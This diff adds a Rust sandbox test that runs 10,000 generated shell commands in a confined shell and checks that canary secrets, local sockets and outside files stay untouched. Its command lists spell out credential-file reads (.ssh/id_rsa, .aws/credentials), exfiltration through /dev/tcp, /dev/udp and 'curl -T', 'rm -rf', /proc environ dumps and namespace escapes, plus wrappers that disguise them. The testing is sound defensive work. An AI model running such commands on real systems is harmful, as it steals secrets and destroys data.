@@ -1,0 +1,233 @@
+//! Ten thousand generated commands run for real at level look, in a world full of things that they must not reach.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::fs::{MetadataExt, symlink};
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, SystemTime};
+
+use crate::world::World;
+
+const COMMANDS: usize = 10_000;
+/// Each of these runs in a confined shell of its own, which runs its commands one after the other.
+const BATCHES: usize = 100;
+const SECRET: &str = "canary-5c0f6c1e";
+
+/// Reads, writes and sends; `@` is a path, `%` an address.
+const DEEDS: &[&str] = &[
+    "cat @",
+    "head -c 99 @",
+    "tac @",
+    "grep -R '' @",
+    "grep -a . @",
+    "sed -n p @",
+    "awk 1 @",
+    "od -c @",
+    "base64 @",
+    "strings @",
+    "cp @ /tmp/stolen && cat /tmp/stolen",
+    "cp -rL @ /tmp/stolen; grep -r '' /tmp/stolen",
+    "ln @ /tmp/hard && cat /tmp/hard",
+    "ln -s @ /tmp/soft$$ && cat /tmp/soft$$",
+    "tar cf - @ 2>/dev/null | tar xOf -",
+    "find @ -type f -exec cat {} +",
+    "xargs cat <<< @",
+    "while read -r l; do echo $l; done < @",
+    "echo $(< @)",
+    "mapfile x < @; echo ${x[@]}",
+    "python3 -c 'print(open(\"@\").read())'",
+    "perl -pe 1 @",
+    "dd if=@ 2>/dev/null",
+    "diff @ /dev/null",
+    "git diff --no-index @ /dev/null",
+    "git hash-object -w @",
+    "sort @",
+    "source @",
+    "echo x > @",
+    "echo x >> @",
+    "tee @ <<< x",
+    "cp /etc/passwd @",
+    "mv @ /tmp/moved",
+    "rm -rf @",
+    "truncate -s 0 @",
+    "touch @",
+    "chmod 777 @",
+    "sed -i s/c/x/ @",
+    "mkdir -p @/made",
+    "ln -sf /etc/passwd @",
+    "dd of=@ <<< x",
+    "install /etc/passwd @",
+    "python3 -c 'open(\"@\",\"w\").write(\"x\")'",
+    "exec 3<>/dev/tcp/% && echo x >&3",
+    "curl -s --max-time 1 http://%/",
+    "python3 -c 'import socket;socket.create_connection(tuple(\"%\".split(\"/\"))).send(b\"x\")'",
+    "echo x > /dev/udp/%",
+    "exec 3>/dev/udp/% && cat @ >&3",
+    "curl -s --max-time 1 -T @ http://%/",
+    "git ls-remote git://%/x",
+    "kill -9 SERVER",
+    "cat /proc/SERVER/environ",
+    "cat /proc/SERVER/root@",
+    "cat /proc/1/root@",
+    "cat /proc/self/root@",
+    "ls -la /proc/SERVER/fd/",
+    "cat /proc/*/environ",
+    "ls -laR @",
+    "stat @",
+    "mount --bind @ /tmp",
+    "chroot @ cat x",
+    "unshare -Urm cat @",
+    "nsenter -t SERVER -m cat @",
+    "cd @ && cat * .*",
+];
+
+/// Hides a deed in a line.
+const WRAPPERS: &[&str] = &[
+    "#",
+    "#",
+    "(#)",
+    "{ #; }",
+    "sh -c '#'",
+    "env X=1 bash -c '#'",
+    "eval '#'",
+    "echo $(#)",
+    "true && #",
+    "false || #",
+    "# | cat",
+    "# &",
+    "timeout 1 #",
+    "nohup #",
+    "setsid sh -c '#'",
+    "for i in 1 2; do #; done",
+    "cd /tmp; #",
+    "cd ~; #",
+    "ulimit -t 1; #",
+    "echo `#`",
+    "exec 2>&1; #",
+    "if #; then :; fi",
+    "HOME=/; #",
+    "cat <(#)",
+];
+
+/// Picks the same ones in every run.
+struct Picks(u64);
+
+impl Picks {
+    fn number(&mut self, below: usize) -> usize {
+        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        ((self.0 >> 33) % below as u64) as usize
+    }
+
+    fn one<'a>(&mut self, list: &'a [impl AsRef<str>]) -> &'a str {
+        list[self.number(list.len())].as_ref()
+    }
+}
+
+/// Everything below a folder: what it is, what it holds, and when it was last changed.
+fn state(folder: &Path) -> BTreeMap<PathBuf, (u32, i64, Vec<u8>)> {
+    let mut found = BTreeMap::new();
+    for entry in fs::read_dir(folder).unwrap().map(Result::unwrap) {
+        let metadata = entry.metadata().unwrap();
+        let content = if metadata.is_file() { fs::read(entry.path()).unwrap() } else { Vec::new() };
+        found.insert(entry.path(), (metadata.mode(), metadata.mtime(), content));
+        if metadata.is_dir() {
+            found.extend(state(&entry.path()));
+        }
+    }
+    found
+}
+
+/// A file that tells whether it was read: the kernel notes the first reading after a change.
+fn canary(path: &Path) -> PathBuf {
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(path, format!("{SECRET}\n")).unwrap();
+    path.to_owned()
+}
+
+/// As if it had not been read since it was written.
+fn unread(path: &Path) {
+    let file = fs::File::options().write(true).open(path).unwrap();
+    let old = SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000);
+    file.set_times(fs::FileTimes::new().set_accessed(old)).unwrap();
+}
+
+#[test]
+fn no_generated_command_reads_sends_or_changes_anything_outside() {
+    let world = World::new();
+    let home = world.beside("home");
+    let secrets = [".ssh/id_rsa", ".aws/credentials", ".netrc", ".config/gh/hosts.yml", "notes/private.txt"];
+    let mut canaries: Vec<PathBuf> = secrets.iter().map(|name| canary(&home.join(name))).collect();
+    canaries.push(canary(&world.beside("outside/secret.txt")));
+    canaries.push(canary(&world.beside("scratch/other/secret.txt")));
+    symlink(&canaries[0], world.root().join("key.txt")).unwrap();
+    symlink(&home, world.root().join("home")).unwrap();
+    symlink("/proc/self/root", world.root().join("root")).unwrap();
+    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let unix = UnixListener::bind(world.beside("service.sock")).unwrap();
+    tcp.set_nonblocking(true).unwrap();
+    udp.set_nonblocking(true).unwrap();
+    unix.set_nonblocking(true).unwrap();
+
+    let mut paths: Vec<String> = canaries.iter().map(|path| path.display().to_string()).collect();
+    paths.extend(
+        [
+            "key.txt",
+            "home/.netrc",
+            "root/etc/shadow",
+            "~/.ssh/id_rsa",
+            "$HOME/.netrc",
+            "../outside/secret.txt",
+        ]
+        .map(str::to_owned),
+    );
+    paths.extend(
+        [world.beside("outside"), home.clone(), world.beside("service.sock")]
+            .map(|path| path.display().to_string()),
+    );
+    let addresses = [tcp.local_addr().unwrap(), udp.local_addr().unwrap()]
+        .map(|address| format!("127.0.0.1/{}", address.port()));
+    let mut picks = Picks(20_261_116);
+    let mut line = || {
+        let deed = picks.one(DEEDS).replace('@', picks.one(&paths)).replace('%', picks.one(&addresses));
+        let deed = deed.replace("SERVER", &std::process::id().to_string());
+        let wrapped = picks.one(WRAPPERS);
+        let deed = if wrapped.contains("'#'") { deed.replace('\'', "'\\''") } else { deed };
+        wrapped.replace('#', &deed)
+    };
+    for number in 0..BATCHES {
+        let lines: Vec<String> = (0..COMMANDS / BATCHES).map(|_| line()).collect();
+        fs::write(world.root().join(format!("batch-{number}")), lines.join("\0") + "\0").unwrap();
+    }
+    let state_before = (state(&world.beside("outside")), state(&home), state(world.root()));
+    // Looking at the files was reading, too.
+    canaries.iter().for_each(|path| unread(path));
+
+    std::thread::scope(|scope| {
+        for part in 0..2 {
+            let world = &world;
+            scope.spawn(move || {
+                for number in (0..BATCHES).filter(|number| number % 2 == part) {
+                    let script = format!(
+                        "while IFS= read -r -d '' line; do timeout -k 1 3 bash -c \"$line\" </dev/null; done < batch-{number}; echo finished"
+                    );
+                    let ran = world.look(&script);
+                    let told = ran.text.replace(char::is_whitespace, "");
+                    assert!(!told.contains(SECRET), "{}", ran.text);
+                    assert!(ran.text.ends_with("finished\n") || ran.text.contains("finished\n"), "{ran:?}");
+                }
+            });
+        }
+    });
+
+    for path in &canaries {
+        let metadata = fs::metadata(path).unwrap();
+        assert!(metadata.atime() < metadata.mtime(), "{} was read", path.display());
+    }
+    assert!(tcp.accept().is_err(), "a connection came through");
+    assert!(udp.recv(&mut [0; 16]).is_err(), "a datagram came through");
+    assert!(unix.accept().is_err(), "a local connection came through");
+    assert_eq!(state_before, (state(&world.beside("outside")), state(&home), state(world.root())));
+}
